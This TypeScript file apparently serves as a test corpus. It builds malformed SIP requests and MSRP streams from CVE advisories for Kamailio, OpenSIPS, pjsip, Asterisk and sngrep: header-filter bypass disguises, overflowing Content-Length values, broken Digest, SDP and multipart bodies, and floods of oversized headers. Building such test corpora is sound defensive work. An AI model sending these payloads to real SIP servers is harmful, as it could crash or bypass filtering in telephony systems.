/**
 * Messages in the shape of what broke SIP software: Kamailio's, OpenSIPS', pjsip's, Asterisk's and sngrep's advisories, built from their
 * descriptions. One character is one byte.
 */
export interface AttackShape {
  readonly name: string
  readonly text: string
  /** Only meant for a stream. */
  readonly isStream?: boolean
}

/** A request with lines in place of, or before, those of a good one. */
export function craft(
  method: string,
  changes: { readonly [header: string]: string },
  extra: readonly string[] = [],
  body = '',
): string {
  const usual: readonly (readonly [string, string])[] = [
    ['Via', 'SIP/2.0/UDP 127.8.30.15:5060;branch=z9hG4bK-attack'],
    ['From', '<sip:mallory@127.8.30.1>;tag=m'],
    ['To', '<sip:victim@127.8.30.1>'],
    ['Call-ID', 'attack'],
    ['CSeq', `1 ${method}`],
    ['Max-Forwards', '70'],
    ['Contact', '<sip:mallory@127.8.30.15>'],
  ]
  const lines = usual.flatMap(([name, value]) => {
    const changed = changes[name]
    return changed === '' ? [] : [`${name}: ${changed ?? value}`]
  })
  const length = changes['Content-Length'] ?? String(body.length)
  return [
    `${method} ${changes['URI'] ?? 'sip:victim@127.8.30.1'} SIP/2.0`,
    ...lines,
    ...extra,
    `Content-Length: ${length}`,
    '',
    body,
  ].join('\r\n')
}

/** Lines that no parser takes; each stood before a header that a script removes, and hid it (Kamailio 5.6.3 and 6.2, 7 of 7). */
export const hidingLines: readonly string[] = [
  'C%6Fntact: <sip:x@y>',
  'X-Folded \r\n : x',
  'Retry-After: 949302838503028349304023988',
  'Content-Length: 5',
  'Via: SIP/2.0/UDP ;;,;,,',
  'X Blank Name: x',
  'no colon here',
]

/** How the header to remove was written to escape it (CVE-2020-28361). */
export const disguises: readonly string[] = [
  'X-Bypass-me: lol',
  'X-Bypass-me : lol',
  'X-Bypass-me\t: lol',
  'X-Bypass-me  \t : lol',
  'X-Bypass-me:\r\n lol',
  'x-bypass-ME: lol',
]

const long = (length: number, text = 'a'): string => text.repeat(Math.ceil(length / text.length)).slice(0, length)

const vias: readonly AttackShape[] = [
  'SIP/2.0/UDP',
  'SIP/2.0/UDP ;branch=z9hG4bK1',
  'SIP/2.0/UDP :5060',
  'SIP/2.0/ ;x',
  'SIP/2.0/UDP 127.8.30.15;branch=',
].map((value, index) => ({ name: `CVE-2018-16657 ${index + 1}`, text: craft('INVITE', { Via: value }) }))

const streams: readonly AttackShape[] = [
  'MSRP 1 SEND\r\nTo-Path: x\r\nFrom-Path: y\r\n\r\nz\r\n-------1$\r\n',
  `MSRP ${long(100)}`,
  'MSRP ',
  'MSRP\r\n\r\n',
  'MSRP 1 200 OK\r\nByte-Range: 1-99999999999/1\r\n\r\n-------1+\r\n',
].map((text, index) => ({ name: `CVE-2026-39863 MSRP ${index + 1}`, text, isStream: true }))

const lengths: readonly AttackShape[] = [
  '2147483647',
  '2147483648',
  '4294967295',
  '4294967296',
  '4294967328',
  '99999999999999999999',
  '-1',
  '0x20',
].map((value) => ({
  name: `CVE-2026-39863 Content-Length ${value}`,
  text: craft('OPTIONS', { 'Content-Length': value }, [], long(32)),
}))

const digests: readonly AttackShape[] = [
  'Digest',
  'Digest ',
  'Digest username',
  'Digest username=',
  'Digest username=,realm=,nonce=',
  'Digest username="',
  'Digest username="a\\',
  'Digest ,,,,=,=',
  `Digest username="${long(30_000)}"`,
  `Digest ${long(30_000, 'a=b,')}`,
  'Digest qop=,nc=,cnonce=,opaque=',
  'Digest algorithm=\x00',
].map((value, index) => ({
  name: `CVE-2023-28096 and kin ${index + 1}`,
  text: craft('REGISTER', {}, [`Authorization: ${value}`]),
}))

const sdp = (body: string): string => craft('INVITE', {}, ['Content-Type: application/sdp'], body)
const bodies: readonly AttackShape[] = [
  'v=0',
  'v=0\r\nm=',
  'v=0\r\nm=audio',
  'v=0\r\nm=audio 99999999999 RTP/AVP 0 1 2',
  'v=0\r\nc=IN IP4',
  'v=0\r\no=- 1 1 IN IP4 \r\ns=\r\nc=\r\nt=\r\nm=audio 1 RTP/AVP',
  `v=0\r\n${long(30_000, 'a=rtpmap:0 PCMU/8000\r\n')}`,
  `v=0\r\nm=audio 1 RTP/AVP ${long(20_000, '0 ')}`,
  'v=0\r\na=crypto:1 AES inline:',
  'v=0\nm=audio 1 RTP/AVP 0\na=sendonly',
].map((body, index) => ({ name: `CVE-2023-27596, 27601, AST-2017-003 body ${index + 1}`, text: sdp(body) }))

const multipart = (boundary: string, body: string): string =>
  craft('INVITE', {}, [`Content-Type: multipart/mixed;boundary=${boundary}`], body)
const parts: readonly AttackShape[] = [
  multipart('b', '--b'),
  multipart('b', '--b\r\n--b--'),
  multipart('b', '--b\r\nContent-Type: application/sdp\r\n\r\nv=0'),
  multipart('""', '--\r\n\r\n----'),
  multipart(long(5000), `--${long(5000)}\r\n\r\nx\r\n--${long(5000)}--`),
  multipart('b', long(30_000, '--b\r\n')),
  multipart('', '--\r\n'),
].map((text, index) => ({ name: `multipart rewrite ${index + 1}`, text }))

const others: readonly (readonly [string, string])[] = [
  ['CVE-2016-2385: as long as is read', craft('INVITE', {}, [`X-Long: ${long(30_000)}`])],
  ['CVE-2018-8828: a long From tag', craft('INVITE', { From: `<sip:a@b>;tag=${long(300)}` })],
  [
    'CVE-2018-8828: a branch of its own kind',
    craft('INVITE', { Via: `SIP/2.0/UDP 127.8.30.15;branch=z9hG4bK${long(300)}.${long(300, '%')}` }),
  ],
  ['CVE-2018-14767: two To, empty tag', craft('INVITE', { To: '<sip:a@b>;tag=' }, ['To: <sip:c@d>;tag='])],
  ['CVE-2018-14767: an empty tag', craft('OPTIONS', { To: '<sip:a@b>;tag=' })],
  [
    'CVE-2020-27507: doubled headers and a tag of 3,000',
    craft('INVITE', { From: `<sip:a@b>;tag=${long(3000)}` }, ['From: <sip:a@b>;tag=2', 'To: <sip:x@y>', 'Call-ID: 2']),
  ],
  [
    'CVE-2020-27507: CANCEL',
    craft('CANCEL', { From: `<sip:a@b>;tag=${long(3000)}`, To: `<sip:a@b>;tag=${long(3000)}` }),
  ],
  ['no line end at all (#2044)', 'INVITE sip:a@b SIP/2.0'],
  ['no header', 'INVITE sip:a@b SIP/2.0\r\n\r\n'],
  ['AoR without user (#4886)', craft('REGISTER', { To: '<sip:127.8.30.1>', From: '<sip:127.8.30.1>;tag=1' })],
  ['Call-ID of 256 (#4920)', craft('INVITE', { 'Call-ID': long(256) })],
  ['Call-ID of 30,000', craft('INVITE', { 'Call-ID': long(30_000) })],
  ['CSeq that wraps (24030e5899)', craft('INVITE', { CSeq: '4294967295 INVITE' })],
  ['CSeq that wraps 64 bits', craft('INVITE', { CSeq: '18446744073709551617 INVITE' })],
  ['CVE-2017-9372: a CSeq method of 1,000', craft('INVITE', { CSeq: `1 ${long(1000, 'A')}` })],
  [
    'CVE-2018-7284: 100 Accept headers',
    craft('SUBSCRIBE', {}, [
      ...Array.from({ length: 100 }, (_, at) => `Accept: application/x-${at}`),
      'Event: presence',
    ]),
  ],
  ['CVE-2023-27597: a To without URI', craft('INVITE', { To: '<>' })],
  ['CVE-2023-27598: a Via that ends early', craft('INVITE', { Via: 'SIP/2.0/UDP 127.8.30.15:5060;rport;branch' })],
  ['CVE-2023-27599: a URI of nothing but separators', craft('INVITE', { URI: 'sip:;;;@@@:::' })],
  ['CVE-2023-28095: a bad first byte', `\x00${craft('INVITE', {})}`],
  ['CVE-2023-28097: Content-Length of 20 digits', craft('INVITE', { 'Content-Length': '11111111111111111111' })],
  [
    'CVE-2023-28098: Digest without a body',
    craft('REGISTER', {}, ['Authorization: Digest username="x", realm="', 'Authorization:']),
  ],
  ['CVE-2023-28099: a Contact of quotes', craft('REGISTER', { Contact: '"<sip:a@b>' })],
  ['pjsip #2092: Contact without end', craft('REGISTER', { Contact: '<sip:a@b;x="' })],
  [
    'sngrep #327: 600 Via',
    craft(
      'INVITE',
      {},
      Array.from({ length: 600 }, (_, at) => `Via: SIP/2.0/UDP 10.0.0.1:${at};branch=z9hG4bK${at}`),
    ),
  ],
  ['8,000 one-byte headers', `OPTIONS sip:a@b SIP/2.0\r\n${long(32_000, 'a:\r\n')}\r\n`],
  ['1,000 folds', craft('OPTIONS', {}, [`X: a${long(3000, '\r\n ')}b`])],
  ['5,000 parameters', craft('OPTIONS', { Contact: `<sip:a@b>${long(15_000, ';p=')}` })],
  ['30,000 open brackets', craft('OPTIONS', { From: `${long(30_000, '<')}sip:a@b>;tag=1` })],
  ['30,000 quotes', craft('OPTIONS', { From: `${long(30_001, '"')} <sip:a@b>;tag=1` })],
  ['30,000 comments', craft('OPTIONS', { Via: `SIP/2.0/UDP a;branch=z9hG4bK1 ${long(30_000, '(')}` })],
  ['escapes at the end', craft('OPTIONS', { From: '"a\\" <sip:a@b>;tag=1', To: '<sip:a%@b>;x="\\' })],
  [
    'names of JavaScript',
    craft('OPTIONS', { From: '<sip:__proto__@constructor;__proto__=1>;tag=__proto__' }, [
      '__proto__: x',
      'constructor: y',
      'toString: z',
    ]),
  ],
  ['every byte', craft('OPTIONS', {}, [`X: ${String.fromCharCode(...Array.from({ length: 256 }, (_, at) => at))}`])],
  [
    'Route loop of 1,000',
    craft(
      'INVITE',
      {},
      Array.from({ length: 1000 }, () => 'Route: <sip:127.8.30.1;lr>'),
    ),
  ],
]

export const attackShapes: readonly AttackShape[] = [
  ...vias,
  ...streams,
  ...lengths,
  ...digests,
  ...bodies,
  ...parts,
  ...others.map(([name, text]) => ({ name, text })),
]
